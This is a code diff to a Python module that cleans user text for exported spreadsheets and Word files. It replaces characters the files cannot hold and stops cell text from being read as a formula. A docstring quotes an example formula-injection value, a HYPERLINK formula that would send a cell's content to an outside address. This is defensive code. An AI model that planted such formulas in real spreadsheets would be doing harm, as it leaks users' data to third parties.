@@ -1,4 +1,5 @@
-"""User text as spreadsheet cells: always text, never a formula, and only characters the file can hold.
+"""User text in exported files: only characters the file can hold (spreadsheets, the Word readout), and in
+a spreadsheet always text, never a formula.
 
 A principle titled `=HYPERLINK("https://example.org/?"&A1, "Principle 4")` must reach a
 spreadsheet as those characters, not as a link that sends a cell's content away. The
@@ -15,8 +16,8 @@ import re
 # XML 1.0 cannot hold C0 controls other than tab, newline and carriage return, nor U+FFFE/U+FFFF;
 # lone surrogates cannot be encoded at all; the other noncharacters (U+FDD0-U+FDEF and the last
 # two of every plane) are no text anyone typed. The core refuses most of these in typed text,
-# but a file may be older than a rule: in an export each becomes U+FFFD, the replacement
-# character, so the reader sees that something was there.
+# but a file may be older than a rule: in an export (xlsx, csv, docx) each becomes U+FFFD, the
+# replacement character, so the reader sees that something was there.
 _UNFIT = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufdd0-\ufdef"
                     + "".join(f"{chr(plane << 16 | 0xFFFE)}{chr(plane << 16 | 0xFFFF)}" for plane in range(17))
                     + "]")
@@ -27,7 +28,7 @@ _FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 
 def printable(text: str) -> str:
-    """`text` with every character a spreadsheet file cannot hold replaced by U+FFFD."""
+    """`text` with every character an exported file cannot hold replaced by U+FFFD."""
     return _UNFIT.sub(REPLACEMENT, text)
 
 
